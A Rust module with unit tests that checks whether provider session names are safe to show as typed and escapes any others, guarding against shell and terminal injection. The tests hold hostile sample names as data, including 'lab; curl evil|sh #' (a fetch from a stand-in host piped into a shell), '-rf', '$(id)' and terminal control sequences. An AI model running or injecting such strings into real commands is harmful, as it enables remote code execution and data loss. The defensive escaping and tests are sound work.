//! Names that providers give to their sessions.
//!
//! A user copies such a name into a command line, and a script hands the output of
//! `ls -q` to a shell. So only a name that a shell takes for one word and no command
//! for an option is shown as it is; any other is shown with escapes, and cannot be used
//! to mean the session.

use std::borrow::Cow;

/// The longest name, in characters.
pub const MOST_NAME_CHARACTERS: usize = 128;

/// Whether a session may be called this: letters, digits and `.`, `_`, `-`, `:`, `@`,
/// `+`, `,` of ASCII, no `-` first, at most 128 of them.
#[must_use]
pub fn is_plain_name(name: &str) -> bool {
    (1..=MOST_NAME_CHARACTERS).contains(&name.len())
        && !name.starts_with('-')
        && name.chars().all(is_plain)
}

/// The name as it may be shown: itself when it is plain, else with escapes. What has
/// escapes is not plain, so nobody can take it for a name.
#[must_use]
pub fn shown_name(name: &str) -> Cow<'_, str> {
    if is_plain_name(name) {
        return name.into();
    }
    if name.is_empty() {
        return r"\(empty)".into();
    }
    let mut shown = String::new();
    for (index, character) in name.chars().enumerate() {
        if index >= MOST_NAME_CHARACTERS {
            shown.push_str(r"\...");
            break;
        }
        match character {
            '-' if index == 0 => shown.push_str(r"\x2d"),
            character if is_plain(character) => shown.push(character),
            character if character.is_ascii() => {
                shown.push_str(&format!(r"\x{:02x}", u32::from(character)));
            }
            character => shown.extend(character.escape_unicode()),
        }
    }
    shown.into()
}

fn is_plain(character: char) -> bool {
    character.is_ascii_alphanumeric() || "._-:@+,".contains(character)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_can_be_typed_stay_as_they_are() {
        let longest = "a".repeat(MOST_NAME_CHARACTERS);
        for name in ["analysis-a1b2c", "jane.doe_2", "a:b@c+d,e", "1", &longest] {
            assert!(is_plain_name(name), "{name}");
            assert_eq!(shown_name(name), name);
        }
    }

    #[test]
    fn what_a_shell_or_a_terminal_would_obey_is_shown_with_escapes() {
        for (name, shown) in [
            ("lab; curl evil|sh #", r"lab\x3b\x20curl\x20evil\x7csh\x20\x23"),
            ("-rf", r"\x2drf"),
            ("a\nb\r", r"a\x0ab\x0d"),
            ("\u{1b}[2J", r"\x1b\x5b2J"),
            ("a\u{202e}b\u{200b}", r"a\u{202e}b\u{200b}"),
            ("$(id)", r"\x24\x28id\x29"),
            ("it's", r"it\x27s"),
            ("a\\b", r"a\x5cb"),
            ("docker/a", r"docker\x2fa"),
            ("Zürich", r"Z\u{fc}rich"),
            ("", r"\(empty)"),
        ] {
            assert!(!is_plain_name(name), "{name:?}");
            assert_eq!(shown_name(name), shown);
            assert!(!is_plain_name(&shown_name(name)), "{name:?}");
        }
    }

    #[test]
    fn a_name_that_is_too_long_is_cut_and_cannot_be_typed() {
        let shown = shown_name(&"a".repeat(10_000)).into_owned();
        assert_eq!(shown, format!(r"{}\...", "a".repeat(MOST_NAME_CHARACTERS)));
        assert!(!is_plain_name(&shown));
    }
}
